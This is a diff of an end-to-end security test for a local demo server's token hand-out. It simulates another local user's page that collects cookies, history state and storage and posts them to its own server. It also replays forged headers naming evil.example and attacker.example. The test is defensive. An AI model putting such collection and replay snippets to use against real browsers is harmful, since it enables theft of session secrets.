@@ -1,119 +1,153 @@
-// The demo server's defenses (docs/security.md), end to end against `npm start`'s pieces
-// (scripts/start.mjs) and Debian's Chromium driven by puppeteer-core:
-// - GET /.silo-bridge.json hands the token only to a same-origin fetch from the browser that opened
-//   the printed URL, uncached, with nothing but what the page needs;
-// - every page sends a Content-Security-Policy that the browser enforces (no inline script, no inline
-//   handler, no remote image, sockets only to the demo and the bridge) and that still lets
-//   the demo and embed.html work;
-// - a page on another origin cannot frame the demo (frame-ancestors 'none', X-Frame-Options DENY),
-//   so hidden frames neither get an agent session nor use up the bridge's connections.
+// Who gets the bridge's token from the demo server (docs/security.md, "The demo server"), end to end
+// against `npm start`'s pieces (scripts/start.mjs) and Debian's Chromium driven by puppeteer-core:
+// - a printed URL's launch key is redeemed once, in a header, for a secret of one tab, which the page
+//   sends in a header to get the token; no cookie is ever set;
+// - another local user's server on another port of 127.0.0.1, visited by the victim's browser after
+//   the launch, learns neither the key nor the token (cookies are shared by every port);
+// - a printed URL opened a second time (another browser) lets nothing in and spawns no agent;
+// - a page on another origin that opens the demo (window.open), even from the tab the demo ran in,
+//   starts no agent;
+// - the user still gets in: a reload, "New tab", "Minimal embed" and a fresh printed URL.
 import assert from 'node:assert/strict';
-import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
-import { createServer, request, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
+import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { test } from 'node:test';
-import puppeteer, { type Browser } from 'puppeteer-core';
+import puppeteer, { type Browser, type BrowserContext, type Page } from 'puppeteer-core';
 import { chromiumArgs, ensureBrowsers } from '../../scripts/browsers.mjs';
-import { type Demo, ensureBundle, startDemo } from '../../scripts/start.mjs';
-import { childPids } from '../support/bridge-process.mjs';
+import { type Demo, startDemo } from '../../scripts/start.mjs';
+import {
+  BridgeLog,
+  bridgeAgents,
+  bridgeState,
+  chatConnected,
+  embedState,
+  launchKeyOf,
+  type OtherUser,
+  otherUserServer,
+  send,
+} from '../support/demo-e2e.ts';
 import { waitFor } from '../support/page-wait.ts';
 import { pollUntil } from '../support/poll.ts';
 
-const CSP_PARTS = [
-  "script-src 'self'",
-  "worker-src 'self'",
-  "frame-ancestors 'none'",
-  "img-src 'self' data: blob:",
-  "object-src 'none'",
-];
+/** A secret as the demo mints them (base64url), to pick candidates out of what an attacker saw. */
+const SECRET_LIKE = /[\w-]{20,}/g;
 
-/** Agents the demo's bridge runs now (its children, without tsx's esbuild helper). */
-function agentCount(demo: Demo): number {
-  const pid = demo.bridge!.pid;
-  return childPids(pid).length - childPids(pid).filter((p) => isEsbuild(p)).length;
+/**
+ * The other local user's page: reports what it can read in this tab (cookies, history.state, storage)
+ * to its own server, then, at `/open`, opens the demo and embed.html in new windows (tagged `from`).
+ */
+function otherUsersPage(demoOrigin: string): string {
+  return `<!doctype html><title>another user's page</title><script>
+    (async () => {
+      const read = { cookie: document.cookie, state: history.state, session: { ...sessionStorage }, local: { ...localStorage } };
+      await fetch('/collect', { method: 'POST', body: JSON.stringify(read) });
+      if (location.pathname === '/open') {
+        const from = new URLSearchParams(location.search).get('from');
+        window.open(${JSON.stringify(demoOrigin)} + '/?from=' + from);
+        window.open(${JSON.stringify(demoOrigin)} + '/embed.html?from=' + from);
+      }
+      document.title = 'done';
+    })();
+  </script>`;
 }
 
-function isEsbuild(pid: number): boolean {
-  try {
-    return /esbuild/.test(readFileSync(`/proc/${pid}/cmdline`, 'utf8'));
-  } catch {
-    return false;
-  }
+/** The page of a window another page opened, found by the `from` tag in its URL. */
+async function opened(context: BrowserContext, path: string, from: string): Promise<Page> {
+  const target = await context.waitForTarget((t) => t.url().includes(`${path}?from=${from}`));
+  const page = await target.page();
+  assert.ok(page, `a page for ${path}?from=${from}`);
+  await page.bringToFront(); // a background tab draws no frames, and waitFor polls once a frame
+  return page;
 }
 
-/** A GET with exactly these headers (fetch would not send a Host of our choosing). */
-function get(
-  url: string,
-  headers: Record<string, string>,
-): Promise<{ status: number; headers: Record<string, unknown>; body: string }> {
-  return new Promise((resolve, reject) => {
-    const req = request(url, { headers }, (res) => {
-      let body = '';
-      res.setEncoding('utf8');
-      res.on('data', (c: string) => {
-        body += c;
-      });
-      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
-    });
-    req.on('error', reject);
-    req.end();
-  });
-}
-
-test('the demo server: token endpoint, CSP on every page, no framing', { timeout: 120_000 }, async (t) => {
-  ensureBundle();
+test('the demo hands the bridge token to the tab that opened a printed URL, and to nothing else', {
+  timeout: 180_000,
+}, async (t) => {
   const { chromium } = ensureBrowsers(['chromium']);
   const sessionsDir = mkdtempSync(join(tmpdir(), 'silo-demo-sec-'));
+  const log = new BridgeLog();
   let demo: Demo | undefined;
   let browser: Browser | undefined;
-  let framer: Server | undefined;
+  let other: OtherUser | undefined;
+  const agents = () => bridgeAgents(demo!.bridge!.pid);
+  /** Waits until no connection is open and every one so far is counted in `log`. */
+  const settled = () =>
+    pollUntil(
+      () => agents() === 0 && log.closed === log.spawned,
+      () => `every agent to end (${agents()} running, ${log.spawned} spawned, ${log.closed} closed)`,
+    );
   try {
-    demo = await startDemo({ port: 0, sessionsDir, log: () => {} });
-    const { origin, url } = demo;
+    demo = await startDemo({ port: 0, sessionsDir, log: () => {}, bridgeLog: log.line });
+    const { origin } = demo;
     const host = new URL(origin).host;
-    const config = new URL('/.silo-bridge.json', origin).href;
+    const token = demo.bridge!.token;
+    other = await otherUserServer(() => otherUsersPage(origin));
+    // Without the back/forward cache, a tab that leaves the demo ends its connections (a cached page
+    // keeps them open), so the bridge's log shows when every agent so far is over.
+    const args = [...chromiumArgs, '--disable-features=BackForwardCache'];
+    browser = await puppeteer.launch({ executablePath: chromium, headless: true, args });
+    /** A fresh browser profile (another browser, as far as the demo can tell), closed after the subtest. */
+    const contexts: BrowserContext[] = [];
+    const newContext = async () => {
+      const context = await browser!.createBrowserContext();
+      contexts.push(context);
+      return context;
+    };
+    t.afterEach(async () => {
+      for (const context of contexts.splice(0)) await context.close();
+    });
 
     await t.test(
-      '/.silo-bridge.json: only a same-origin fetch with the launch cookie gets the token',
+      'the launch key is redeemed once, in a header, for a tab secret; never a cookie',
       async () => {
-        const launch = await fetch(url);
-        const setCookie = launch.headers.get('set-cookie') ?? '';
-        assert.match(
-          setCookie,
-          new RegExp(`^silo-demo-launch-${new URL(origin).port}=[\\w-]+; HttpOnly; SameSite=Strict; Path=/$`),
-        );
-        const cookie = setCookie.split(';')[0]!;
-        const noLaunch = await fetch(new URL('/', origin));
-        assert.equal(noLaunch.headers.get('set-cookie'), null, 'no cookie without the printed key');
-        const wrongKey = await fetch(new URL('/?launch=guess', origin));
-        assert.equal(wrongKey.headers.get('set-cookie'), null, 'no cookie for a wrong key');
-
-        const browserLike = { 'sec-fetch-site': 'same-origin', 'sec-fetch-mode': 'cors', cookie };
-        const refused: [string, Record<string, string>][] = [
-          ['no headers at all (curl)', {}],
-          ['the cookie alone', { cookie }],
-          ['same-origin without the cookie', { 'sec-fetch-site': 'same-origin' }],
-          ['a wrong cookie', { ...browserLike, cookie: `silo-demo-launch-${new URL(origin).port}=guess` }],
-          ['same-site (another port of 127.0.0.1)', { ...browserLike, 'sec-fetch-site': 'same-site' }],
-          ['cross-site', { ...browserLike, 'sec-fetch-site': 'cross-site' }],
-          ['a navigation (none)', { ...browserLike, 'sec-fetch-site': 'none' }],
-          ['a foreign Origin', { ...browserLike, origin: 'https://evil.example' }],
-          ['Origin: null', { ...browserLike, origin: 'null' }],
-          ['a rebound Host', { ...browserLike, host: `attacker.example:${new URL(origin).port}` }],
-          ['another loopback name', { ...browserLike, host: `localhost:${new URL(origin).port}` }],
+        const key = launchKeyOf(demo!.launchUrl());
+        const session = new URL('/.silo-session', origin).href;
+        const config = new URL('/.silo-bridge.json', origin).href;
+        const fromPage = { host, origin, 'sec-fetch-site': 'same-origin', 'sec-fetch-mode': 'cors' };
+        const withKey = { ...fromPage, authorization: `Bearer ${key}` };
+        const refused: [string, Record<string, string | string[]>, string?][] = [
+          ['no browser headers (curl)', { authorization: `Bearer ${key}` }],
+          ['same-site (another port of 127.0.0.1)', { ...withKey, 'sec-fetch-site': 'same-site' }],
+          ['cross-site', { ...withKey, 'sec-fetch-site': 'cross-site' }],
+          ['a navigation', { ...withKey, 'sec-fetch-site': 'none' }],
+          ['no Origin', { host, 'sec-fetch-site': 'same-origin', authorization: `Bearer ${key}` }],
+          ['a foreign Origin', { ...withKey, origin: 'https://evil.example' }],
+          ['Origin: null', { ...withKey, origin: 'null' }],
+          ['two Origins', { ...withKey, origin: [origin, 'https://evil.example'] }],
+          ['a rebound Host', { ...withKey, host: `attacker.example:${new URL(origin).port}` }],
+          ['another loopback name', { ...withKey, host: `localhost:${new URL(origin).port}` }],
+          ['the key as a cookie', { ...fromPage, cookie: `silo-demo-launch-${new URL(origin).port}=${key}` }],
+          [
+            'a wrong key',
+            { ...withKey, authorization: 'Bearer AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' },
+          ],
+          ['a GET', withKey, 'GET'],
         ];
-        for (const [what, headers] of refused) {
-          const r = await get(config, headers);
-          assert.equal(r.status, 403, what);
-          assert.ok(!r.body.includes(demo!.bridge!.token), `${what}: no token`);
+        for (const [what, headers, method] of refused) {
+          const r = await send(session, headers, method ?? 'POST');
+          assert.ok(r.status === 403 || r.status === 405, `${what}: ${r.status}`);
+          assert.equal(r.headers['set-cookie'], undefined, `${what}: no cookie`);
         }
-        const ok = await fetch(config, { headers: { ...browserLike, origin, host } });
+        // Every refusal left the key unspent; it works once.
+        const redeemed = await send(session, withKey, 'POST');
+        assert.equal(redeemed.status, 200);
+        assert.equal(redeemed.headers['set-cookie'], undefined, 'no cookie');
+        assert.equal(redeemed.headers['cache-control'], 'no-store');
+        const secret = (JSON.parse(redeemed.body) as { session: string }).session;
+        assert.match(secret, /^[\w-]{43}$/);
+        assert.equal((await send(session, withKey, 'POST')).status, 403, 'a spent key');
+
+        assert.equal((await send(config, fromPage)).status, 403, 'no secret');
+        assert.equal((await send(config, withKey)).status, 403, 'a launch key is not a tab secret');
+        const tabSecret = { ...fromPage, authorization: `Bearer ${secret}` };
+        assert.equal((await send(config, { ...tabSecret, 'sec-fetch-site': 'same-site' })).status, 403);
+        const ok = await send(config, tabSecret);
         assert.equal(ok.status, 200);
-        assert.equal(ok.headers.get('cache-control'), 'no-store');
-        assert.equal(ok.headers.get('access-control-allow-origin'), null, 'no CORS');
-        const body = (await ok.json()) as Record<string, unknown>;
+        assert.equal(ok.headers['cache-control'], 'no-store');
+        assert.equal(ok.headers['access-control-allow-origin'], undefined, 'no CORS');
+        assert.equal(ok.headers['set-cookie'], undefined, 'no cookie');
+        const body = JSON.parse(ok.body) as Record<string, unknown>;
         assert.deepEqual(Object.keys(body).sort(), [
           'agent',
           'connection',
@@ -122,154 +156,149 @@ test('the demo server: token endpoint, CSP on every page, no framing', { timeout
           'token',
           'url',
         ]);
-        assert.equal(body.token, demo!.bridge!.token);
+        assert.equal(body.token, token);
         assert.equal(body.agent, 'Silo reference agent', 'a name, not the command line');
-        assert.equal(body.reference, true);
-      },
-    );
 
-    browser = await puppeteer.launch({ executablePath: chromium, headless: true, args: chromiumArgs });
-    const page = await browser.newPage();
-
-    await t.test(
-      'every page sends the CSP and frame headers, and the demo still connects under them',
-      async () => {
-        for (const path of ['/', '/offline.html', '/embed.html', '/embed.js', '/.silo-bridge.json']) {
-          const r = await fetch(new URL(path, origin));
-          const csp = r.headers.get('content-security-policy') ?? '';
-          for (const part of CSP_PARTS) assert.ok(csp.includes(part), `${path}: ${part} in ${csp}`);
-          assert.match(csp, new RegExp(`connect-src 'self' ws://${host} ${demo!.bridge!.url}(;|$)`), path);
-          assert.equal(r.headers.get('x-frame-options'), 'DENY', path);
-        }
-        await page.goto(url);
-        await waitFor(page, 'the demo online under its CSP', () =>
-          document.querySelector('[data-bridge="online"]'),
-        );
-        await waitFor(page, 'the chat connected under the CSP', () => {
-          const chat = document.querySelector('silo-chat');
-          return (
-            chat?.shadowRoot?.querySelector('[part="state"]')?.getAttribute('data-state') === 'connected'
-          );
-        });
-        await page.goto(new URL('/embed.html', origin).href);
-        await waitFor(page, 'embed.html connected under the CSP', () => {
-          const chat = document.querySelector('silo-chat');
-          return (
-            chat?.shadowRoot?.querySelector('[part="state"]')?.getAttribute('data-state') === 'connected'
-          );
-        });
+        // A tab's secret mints one-time keys for tabs the page opens.
+        const launch = new URL('/.silo-launch', origin).href;
+        assert.equal((await send(launch, withKey, 'POST')).status, 403, 'not with a launch key');
+        const minted = await send(launch, tabSecret, 'POST');
+        assert.equal(minted.status, 200);
+        const tabKey = (JSON.parse(minted.body) as { launch: string }).launch;
+        const withTabKey = { ...fromPage, authorization: `Bearer ${tabKey}` };
+        assert.equal((await send(session, withTabKey, 'POST')).status, 200);
+        assert.equal((await send(session, withTabKey, 'POST')).status, 403, 'once');
       },
     );
 
     await t.test(
-      'the browser enforces it: inline script, inline handlers, remote images and foreign sockets are blocked',
+      "another local user's server on another port learns neither the launch key nor the token",
       async () => {
-        await page.goto(new URL('/offline.html', origin).href);
-        const outcome = await page.evaluate(async (remote: string) => {
-          const w = window as unknown as { __ran: string[] };
-          w.__ran = [];
-          const violations: string[] = [];
-          document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
-          const script = document.createElement('script');
-          script.textContent = 'window.__ran.push("inline script")';
-          document.body.append(script);
-          const div = document.createElement('div');
-          div.setAttribute('onclick', 'window.__ran.push("inline handler")');
-          document.body.append(div);
-          div.click();
-          const img = new Image();
-          const loaded = await new Promise<boolean>((resolve) => {
-            img.onload = () => resolve(true);
-            img.onerror = () => resolve(false);
-            img.src = remote;
-          });
-          const socket = await new Promise<boolean>((resolve) => {
-            try {
-              const ws = new WebSocket('ws://127.0.0.1:9/');
-              ws.onopen = () => resolve(true);
-              ws.onerror = () => resolve(false);
-            } catch {
-              resolve(false);
-            }
-          });
-          // Violations are reported asynchronously; wait until the four blocked loads are reported.
-          const deadline = Date.now() + 10_000;
-          while (violations.length < 4 && Date.now() < deadline)
-            await new Promise((r) => requestAnimationFrame(r));
-          return { ran: w.__ran, loaded, socket, violations: [...new Set(violations)].sort() };
-        }, 'http://localhost:9/pixel.png');
-        assert.deepEqual(outcome.ran, [], 'no inline code ran');
-        assert.equal(outcome.loaded, false);
-        assert.equal(outcome.socket, false);
-        for (const directive of ['script-src-elem', 'script-src-attr', 'img-src', 'connect-src']) {
-          assert.ok(outcome.violations.includes(directive), `${directive} violated: ${outcome.violations}`);
+        const key = launchKeyOf(demo!.url);
+        const context = await newContext();
+        const victim = await context.newPage();
+        await victim.goto(demo!.url);
+        await chatConnected(victim, 'the victim’s demo tab connected');
+        const address = victim.url();
+        const tabState = await victim.evaluate(() => JSON.stringify(history.state));
+        // A page sends the victim's tab to the other user's port: a link, a redirect, a typed address.
+        await victim.goto(`${other!.origin}/steal`);
+        await waitFor(victim, 'the other user’s page ran', () => document.title === 'done');
+        const seen = JSON.stringify(other!.seen);
+        for (const [what, secret] of [
+          ['the launch key', key],
+          ['the bridge token', token],
+          ...[...tabState.matchAll(SECRET_LIKE)].map((m) => ['the tab secret', m[0]]),
+        ] as [string, string][]) {
+          const at = seen.indexOf(secret);
+          assert.ok(
+            at === -1,
+            `${what} reached the other port: …${seen.slice(Math.max(0, at - 120), at + 60)}…`,
+          );
+        }
+        assert.deepEqual(
+          other!.seen.map((r) => r.headers.cookie),
+          other!.seen.map(() => undefined),
+          'the browser sent the other port no cookie',
+        );
+        assert.deepEqual(await context.cookies(), [], 'the demo set no cookie at all');
+        assert.ok(!address.includes(key), `the key is out of the address bar: ${address}`);
+        // The other user replays everything it saw, with every browser header forged.
+        const cookies = other!.seen.flatMap((r) => (r.headers.cookie ? [String(r.headers.cookie)] : []));
+        const candidates = [...new Set(seen.match(SECRET_LIKE) ?? [])];
+        const forged = { host, origin, 'sec-fetch-site': 'same-origin', 'sec-fetch-mode': 'cors' };
+        for (const cookie of [undefined, ...cookies]) {
+          for (const secret of [undefined, ...candidates]) {
+            const headers = {
+              ...forged,
+              ...(cookie ? { cookie } : {}),
+              ...(secret ? { authorization: `Bearer ${secret}` } : {}),
+            };
+            const config = await send(new URL('/.silo-bridge.json', origin).href, headers);
+            assert.ok(!config.body.includes(token), 'no token for what the other port saw');
+            const session = await send(new URL('/.silo-session', origin).href, headers, 'POST');
+            assert.notEqual(session.status, 200, 'no tab secret for what the other port saw');
+          }
         }
       },
     );
 
-    await t.test('/offline.html?src= opens only same-origin URLs', async () => {
-      let foreignRequests = 0;
-      const foreign = createServer((_req, res) => {
-        foreignRequests++;
-        res.setHeader('Access-Control-Allow-Origin', '*');
-        res.end(
-          `${JSON.stringify({ kind: 'agent_message_chunk', text: 'ATTACKER TEXT', content: { type: 'text', text: 'ATTACKER TEXT' }, raw: {} })}\n`,
-        );
-      });
-      await new Promise<void>((r) => foreign.listen(0, '127.0.0.1', r));
-      try {
-        const src = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}/t.jsonl`;
-        for (const attempt of [src, `//127.0.0.1:${(foreign.address() as AddressInfo).port}/t.jsonl`]) {
-          await page.goto(`${origin}/offline.html?src=${encodeURIComponent(attempt)}`);
-          await waitFor(page, 'the foreign URL refused', () =>
-            document.getElementById('status')?.hasAttribute('data-refused'),
-          );
-          const shown = await page.evaluate(
-            () => document.querySelector('silo-transcript')?.shadowRoot?.textContent ?? '',
-          );
-          assert.ok(!shown.includes('ATTACKER TEXT'), attempt);
-        }
-        assert.equal(foreignRequests, 0, 'the foreign server was never asked');
-      } finally {
-        foreign.close();
-      }
-    });
+    await t.test(
+      'a printed URL opens one tab: opened again, in another browser, it spawns no agent',
+      async () => {
+        await settled();
+        const before = log.spawned;
+        const context = await newContext();
+        const page = await context.newPage();
+        await page.goto(demo!.url);
+        assert.equal(await bridgeState(page), 'locked', 'a spent key lets no tab in');
+        assert.equal(agents(), 0);
+        assert.equal(log.spawned, before, 'no agent spawned');
+      },
+    );
 
-    await t.test('a page on another origin cannot frame the demo; its frames get no agent', async () => {
-      // The attacker's page: another origin (another port), nine hidden frames of the demo.
-      framer = createServer((_req, res) => {
-        res.setHeader('Content-Type', 'text/html');
-        res.end(
-          Array.from({ length: 9 }, () => `<iframe src="${url}" width="10" height="10"></iframe>`).join('\n'),
-        );
-      });
-      await new Promise<void>((r) => framer!.listen(0, '127.0.0.1', r));
-      const attacker = `http://127.0.0.1:${(framer.address() as AddressInfo).port}/`;
-      await page.close();
-      await pollUntil(() => agentCount(demo!) === 0, 'the earlier tabs’ agents ended');
-      const evil = await browser!.newPage();
-      await evil.goto(attacker, { waitUntil: 'load' });
-      const frames = evil.frames().filter((f) => f !== evil.mainFrame());
-      assert.equal(frames.length, 9);
-      for (const frame of frames) {
-        assert.notEqual(frame.url(), url, 'the demo did not load in the frame');
+    await t.test(
+      'a page on another origin opening the demo starts no agent, even from the demo’s tab',
+      async () => {
+        const context = await newContext();
+        const own = await context.newPage();
+        await own.goto(demo!.launchUrl());
+        await chatConnected(own, 'the user’s demo tab connected');
+        // The user goes on, in the demo's tab, to the other user's page; it opens the demo in new windows
+        // (which Chromium gives a copy of this tab's sessionStorage); so does a page in a second tab.
+        await own.goto(`${other!.origin}/open?from=same-tab`);
+        const second = await context.newPage();
+        await second.goto(`${other!.origin}/open?from=new-tab`);
+        await settled();
+        const before = log.spawned;
+        for (const from of ['same-tab', 'new-tab']) {
+          assert.equal(
+            await bridgeState(await opened(context, '/', from)),
+            'locked',
+            `the demo opened from ${from}`,
+          );
+          assert.equal(
+            await embedState(await opened(context, '/embed.html', from)),
+            'refused',
+            `embed.html, ${from}`,
+          );
+        }
+        assert.equal(agents(), 0);
+        assert.equal(log.spawned, before, 'no agent spawned for the opened windows');
+      },
+    );
+
+    await t.test('the user gets in: reload, "New tab", "Minimal embed", a fresh printed URL', async () => {
+      const context = await newContext();
+      const page = await context.newPage();
+      await page.goto(demo!.launchUrl());
+      await chatConnected(page, 'the demo tab connected');
+      await page.reload();
+      await chatConnected(page, 'the demo tab connected again after a reload');
+      for (const [button, path] of [
+        ['#new-tab', '/'],
+        ['#open-embed', '/embed.html'],
+      ] as const) {
+        const known = new Set(context.targets());
+        const next = context.waitForTarget((t) => !known.has(t) && t.url().startsWith(`${origin}${path}`));
+        await page.bringToFront(); // the tab opened last has the focus
+        await page.click(button);
+        const tab = await (await next).page();
+        // It restores the session the first tab drives, so it follows it.
+        await chatConnected(tab!, `the tab ${button} opened connected`, true);
+        assert.ok(!tab!.url().includes('launch='), `its key is out of the address bar: ${tab!.url()}`);
+        await tab!.reload();
+        await chatConnected(tab!, `the tab ${button} opened connected again after a reload`, true);
       }
-      // The user's own tab still gets a live session: the frames hold no connection.
-      const own = await browser!.newPage();
-      await own.goto(url);
-      await waitFor(own, "the user's own tab connected", () => {
-        const chat = document.querySelector('silo-chat');
-        return chat?.shadowRoot?.querySelector('[part="state"]')?.getAttribute('data-state') === 'connected';
-      });
-      // The demo also asks the agent for its loadable sessions once, on a short-lived connection:
-      // wait for that to end; nine framed demos would hold nine more agents for good.
-      await pollUntil(() => agentCount(demo!) === 1, "only the user's tab holds an agent");
-      await evil.close();
-      await own.close();
+      // Another browser (or this one restarted) opens a fresh URL, as Enter in the terminal prints.
+      const restarted = await newContext();
+      const fresh = await restarted.newPage();
+      await fresh.goto(demo!.launchUrl());
+      await chatConnected(fresh, 'a fresh printed URL connected');
     });
   } finally {
     await browser?.close();
-    framer?.close();
+    other?.close();
     await demo?.stop();
     rmSync(sessionsDir, { recursive: true, force: true });
   }
